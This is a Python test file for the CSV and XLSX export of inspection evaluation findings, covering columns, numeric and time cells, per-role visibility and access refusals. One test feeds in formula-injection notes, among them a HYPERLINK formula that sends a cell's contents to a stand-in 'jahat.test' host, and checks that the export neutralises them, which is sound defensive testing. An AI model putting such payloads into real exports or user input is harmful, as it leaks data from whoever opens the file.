"""The findings of an evaluation as files: whose they are, every row, numbers as numbers, no text as a formula."""

import csv
import re
import zipfile
from collections.abc import Awaitable, Callable
from decimal import Decimal
from io import BytesIO, StringIO
from xml.etree import ElementTree

import httpx
import pytest

from server.inspections.scoring import Observed
from server.inspections.visits.files import HEADINGS
from tests.cast import Cast, Staff
from tests.inspections.makers import ADA, TIDAK_ADA, Round, levels
from tests.inspections.test_visits import begun, found, refused

SignIn = Callable[[str], Awaitable[Staff]]
Begin = Callable[..., Awaitable[Round]]

NOTE = '=HYPERLINK("http://jahat.test?"&A1;"klik")'
SPREADSHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def address_of(round_: Round, kind: str) -> str:
    return f"/api/inspections/evaluations/{round_.id}/findings.{kind}"


def csv_rows(file: httpx.Response) -> list[dict[str, str]]:
    assert file.status_code == 200, file.text
    assert file.headers["content-type"].startswith("text/csv")
    assert file.content.startswith(b"\xef\xbb\xbf")
    lines = list(csv.reader(StringIO(file.content.decode("utf-8-sig")), delimiter=";"))
    assert lines[0] == list(HEADINGS)
    return [dict(zip(lines[0], line, strict=True)) for line in lines[1:]]


def xlsx_rows(file: httpx.Response) -> list[dict[str, tuple[str, str]]]:
    """Rows of (type, content), read with nothing but a zip and an XML reader."""
    assert file.status_code == 200, file.text
    with zipfile.ZipFile(BytesIO(file.content)) as parts:
        sheet = ElementTree.fromstring(parts.read("xl/worksheets/sheet1.xml"))
    assert sheet.find(f".//{SPREADSHEET}f") is None, "a formula"
    rows = []
    for row in sheet.iter(f"{SPREADSHEET}row"):
        cells = {}
        for cell in row.iter(f"{SPREADSHEET}c"):
            letters = re.sub(r"\d", "", cell.attrib["r"])
            content = "".join(cell.itertext())
            cells[HEADINGS[ord(letters) - ord("A")]] = (cell.attrib.get("t", "n"), content)
        rows.append(cells)
    assert [content for _, content in rows[0].values()] == list(HEADINGS)
    return rows[1:]


async def test_a_row_says_what_was_found_by_whom_and_when_on_the_units_clock(
    cast: Cast, begin: Begin, sign_in: SignIn
) -> None:
    round_, gita = await begin("pekppp/2022"), await sign_in("gita")
    seen = Observed(value=Decimal(4), items=("1", "2", "3"), note="Lahannya luas; teduh.")
    await round_.visit("eka", cast.a, {"15": seen})
    rows = csv_rows(await gita.get(address_of(round_, "csv")))
    assert [row["Kode indikator"] for row in rows] == [str(number) for number in range(1, 32)]
    row = rows[14]
    assert row["Butir yang ada"].count(";") == 2
    assert {
        key: value for key, value in row.items() if key not in {"Evaluasi", "Indikator", "Butir yang ada"}
    } == {
        "Unit": "Dinas Kependudukan",
        "Layanan": "",
        "Formulir": "F-02",
        "Tim": "Inspektorat",
        "Petugas": "Eka",
        "Status": "terverifikasi",
        "Kode indikator": "15",
        "Aspek": round_.instrument.parts[2].name,
        "Bobot": "15",
        "Nilai": "4",
        "Nilai menurut butir": "3",
        "Tidak berlaku": "",
        "Catatan": "Lahannya luas; teduh.",
        "Jumlah bukti": "1",
        "Waktu pengamatan": "2026-11-20 10:00",
        "Menurut perangkat": "2026-11-20 10:00",
        "Keraguan waktu": "",
        "Waktu diterima": "2026-11-20 10:00",
        "Diverifikasi oleh": "Gita",
    }
    assert (rows[0]["Nilai"], rows[0]["Waktu pengamatan"], rows[0]["Jumlah bukti"]) == ("", "", "0")


async def test_a_time_that_a_program_claims_is_told_beside_ours(
    round_: Round, sign_in: SignIn, gita: Staff
) -> None:
    eka = await sign_in("eka")
    address = await begun(eka, round_)
    said = found(observed_at="2023-01-02T03:04:00+07:00")
    assert (await eka.browser.put(f"{address}/findings/1", json=said)).status_code == 200
    row = csv_rows(await gita.get(address_of(round_, "csv")))[0]
    assert (row["Waktu pengamatan"], row["Menurut perangkat"]) == ("2026-11-20 10:00", "2023-01-02 03:04")


async def test_what_people_wrote_never_becomes_a_formula(cast: Cast, begin: Begin, sign_in: SignIn) -> None:
    round_, gita, eka = await begin("pekppp/2022"), await sign_in("gita"), await sign_in("eka")
    address = await begun(eka, round_)
    for number, note in enumerate((NOTE, "+62 812", "-1", "@SUM(A1)", "＝1+1", "biasa\n=2"), 1):
        answered = await eka.browser.put(f"{address}/findings/{number}", json=found(note=note))
        assert answered.status_code == 200
    rows = csv_rows(await gita.get(address_of(round_, "csv")))
    assert [row["Catatan"] for row in rows[:6]] == [
        f"'{NOTE}",
        "'+62 812",
        "'-1",
        "'@SUM(A1)",
        "'＝1+1",
        "biasa\n=2",
    ]
    cells = xlsx_rows(await gita.get(address_of(round_, "xlsx")))
    assert [row["Catatan"] for row in cells[:4]] == [
        ("inlineStr", NOTE),
        ("inlineStr", "+62 812"),
        ("inlineStr", "-1"),
        ("inlineStr", "@SUM(A1)"),
    ]


async def test_numbers_of_a_workbook_are_numbers_and_times_are_times(
    cast: Cast, begin: Begin, sign_in: SignIn
) -> None:
    round_, gita = await begin("ombudsman/2022"), await sign_in("gita")
    await round_.visit("eka", cast.a, {"output.1": Observed(value=Decimal("87.35"), note="wawancara")})
    file = await gita.get(address_of(round_, "xlsx"))
    assert file.headers["content-disposition"] == f'attachment; filename="temuan-evaluasi-{round_.id}.xlsx"'
    [row] = [row for row in xlsx_rows(file) if row["Kode indikator"][1] == "output.1"]
    assert row["Nilai"] == ("n", "87.35")
    assert row["Jumlah bukti"] == ("n", "1")
    # days since 1899-12-30: 2026-11-20 is day 46346, ten in the morning 10/24 of one
    assert row["Waktu pengamatan"][0] == "n"
    assert row["Waktu pengamatan"][1].startswith("46346.41666666")
    assert row["Kode indikator"][0] == "inlineStr"
    csv_row = next(
        row
        for row in csv_rows(await gita.get(address_of(round_, "csv")))
        if row["Kode indikator"] == "output.1"
    )
    assert csv_row["Nilai"] == "87,35"


async def test_what_does_not_apply_is_said_and_services_are_named(
    cast: Cast, begin: Begin, sign_in: SignIn
) -> None:
    round_, gita = await begin("sampang/2018"), await sign_in("gita")
    findings = {"1": ADA, "2": TIDAK_ADA, "3": Observed(is_not_applicable=True)}
    await round_.visit("eka", cast.a, findings, state="draft")
    rows = csv_rows(await gita.get(address_of(round_, "csv")))
    assert [(row["Nilai"], row["Tidak berlaku"]) for row in rows[:4]] == [
        ("1", ""),
        ("0", ""),
        ("", "ya"),
        ("", ""),
    ]
    assert {row["Status"] for row in rows} == {"sedang diisi"}
    products = await begin("ombudsman/classic")
    await products.visit("eka", cast.a, {"1.1": ADA}, service_id=cast.services["ktp"].id)
    rows = csv_rows(await gita.get(address_of(products, "csv")))
    assert {row["Layanan"] for row in rows} == {"KTP elektronik"}


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
async def test_a_file_holds_what_its_reader_may_see(
    kind: str, cast: Cast, begin: Begin, sign_in: SignIn
) -> None:
    round_ = await begin("pekppp/2022")
    await round_.visit("eka", cast.a, levels({1: 1}), state="verified")
    await round_.visit("eka", cast.a, levels({1: 2}), state="submitted")
    await round_.visit("fajar", cast.a, levels({1: 3}), state="final")
    await round_.visit("fajar", cast.b, levels({1: 4}), state="verified")

    async def values(name: str) -> list[str]:
        file = await (await sign_in(name)).get(address_of(round_, kind))
        if kind == "csv":
            return sorted(row["Nilai"] for row in csv_rows(file) if row["Nilai"])
        return sorted(row["Nilai"][1] for row in xlsx_rows(file) if "Nilai" in row)

    assert await values("gita") == ["1", "2", "3", "4"]
    assert await values("budi") == ["1", "3"]
    assert await values("citra") == ["4"]
    assert await values("eka") == ["1", "2"]
    assert await values("fajar") == ["3", "4"]


async def test_a_file_of_many_visits_holds_them_all(cast: Cast, begin: Begin, sign_in: SignIn) -> None:
    """More than are in memory at once."""
    round_, gita = await begin("sampang/2018"), await sign_in("gita")
    for _ in range(23):
        await round_.visit("eka", cast.a, {"1": ADA}, proven=False)
    assert len(csv_rows(await gita.get(address_of(round_, "csv")))) == 23 * 6
    assert len(xlsx_rows(await gita.get(address_of(round_, "xlsx")))) == 23 * 6


async def test_an_evaluation_one_has_no_part_in_does_not_exist(
    cast: Cast, begin: Begin, sign_in: SignIn, client: httpx.AsyncClient
) -> None:
    round_, eka = await begin(), await sign_in("eka")
    for kind in ("csv", "xlsx"):
        refused(await client.get(address_of(round_, kind)), 401, "sign_in")
        nowhere = f"/api/inspections/evaluations/{round_.id + 7}/findings.{kind}"
        refused(await eka.get(nowhere), 404, "unknown_evaluation")
        refused(await eka.get(f"/api/inspections/evaluations/x/findings.{kind}"), 404, "unknown_evaluation")
